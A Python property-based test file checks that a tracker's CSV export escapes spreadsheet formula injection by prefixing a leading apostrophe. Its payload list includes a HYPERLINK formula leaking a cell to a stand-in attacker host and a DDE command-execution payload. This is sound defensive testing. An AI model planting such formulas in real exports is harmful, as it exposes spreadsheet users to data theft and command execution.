"""No cell of an exported CSV is a formula a spreadsheet would run: text that begins with =, +,
-, @, a tab or a carriage return gets a leading apostrophe; other text and numbers are left as
they are. Checked through the real import and export commands, for every table and text column."""

from __future__ import annotations

import csv
import io
import json
import re
import tempfile
import unicodedata
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from tests.profiles import examples
from tests.robustness.cli_runs import run_cli
from tracker.cli.parser import TABLES

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "=1\n=2",
]

text = st.one_of(
    st.sampled_from(PAYLOADS),
    st.builds(
        lambda start, rest: start + rest,
        st.sampled_from([*FORMULA_STARTS, "", " ", "'", "a"]),
        st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=12),
    ),
)


def _needs_apostrophe(value: str) -> bool:
    """A trigger first or behind blanks (test_formula_triggers), or an apostrophe of its own."""
    if value.startswith((*FORMULA_STARTS, "'")):
        return True
    for character in value:
        if not (character.isspace() or unicodedata.category(character) in ("Cc", "Cf", "Zs")):
            return character in "=+-@"
    return False


def document(values: list[str]) -> dict[str, object]:
    """A log whose every free-text field holds one of `values`."""

    def pick(field: int) -> str:
        return values[field % len(values)]

    return {
        "format": "repute/1",
        "profile": {"name": pick(11)},
        "clients": [{"id": "c", "name": pick(0), "country": pick(1)}],
        "contracts": [
            {
                "id": "k",
                "client": "c",
                "kind": "fixed",
                "started": "2025-01-01",
                "ended": "2025-02-01",
                "title": pick(2),
                "category": pick(3),
                "notes": pick(4),
            }
        ],
        "payments": [{"contract": "k", "date": "2025-01-20", "amount": 10.5, "ref": pick(5)}],
        "feedback": [{"contract": "k", "date": "2025-02-02", "stars": 5, "comment": pick(6)}],
        "invites": [{"id": "i", "date": "2025-01-01", "job": pick(7), "rate": 40}],
        "proposals": [{"id": "p", "date": "2025-01-01", "job": pick(8)}],
        "snapshots": [{"date": "2025-03-01", "jss": 90, "note": pick(9)}],
        "events": [{"date": "2025-03-01", "kind": "note", "note": pick(10)}],
    }


def exported_cells(db: Path, folder: Path) -> list[str]:
    cells: list[str] = []
    for table in TABLES:
        out = folder / f"{table}.csv"
        outcome = run_cli("--db", str(db), "export", str(out), "--table", table)
        assert outcome.code == 0, outcome.err
        rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
        cells.extend(cell for row in rows[1:] for cell in row)
    return cells


@settings(max_examples=examples(60), deadline=None, database=None)
@given(values=st.lists(text, min_size=1, max_size=11))
def test_no_exported_cell_is_a_formula(values: list[str]) -> None:
    with tempfile.TemporaryDirectory() as scratch:
        folder = Path(scratch)
        source = folder / "in.json"
        source.write_text(json.dumps(document(values)), encoding="utf-8")
        db = folder / "repute.sqlite3"
        imported = run_cli("--db", str(db), "import", str(source))
        assert imported.code == 0, imported.err
        cells = exported_cells(db, folder)
    dangerous = [c for c in cells if c.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(c)]
    assert dangerous == []
    for value in values[:11]:  # each text comes out whole, behind one apostrophe when it must
        expected = "'" + value if _needs_apostrophe(value) else value
        if value and not NUMBER.fullmatch(value):
            assert expected in cells


def test_negative_numbers_stay_numbers() -> None:
    """The check above is not fooled by numbers: a spreadsheet must still read them as numbers."""
    with tempfile.TemporaryDirectory() as scratch:
        folder = Path(scratch)
        source = folder / "in.json"
        source.write_text(json.dumps(document(["=1+1"])), encoding="utf-8")
        db = folder / "repute.sqlite3"
        assert run_cli("--db", str(db), "import", str(source)).code == 0
        cells = exported_cells(db, folder)
    assert "'=1+1" in cells
    assert "10.50" in cells  # a number keeps its form: no apostrophe
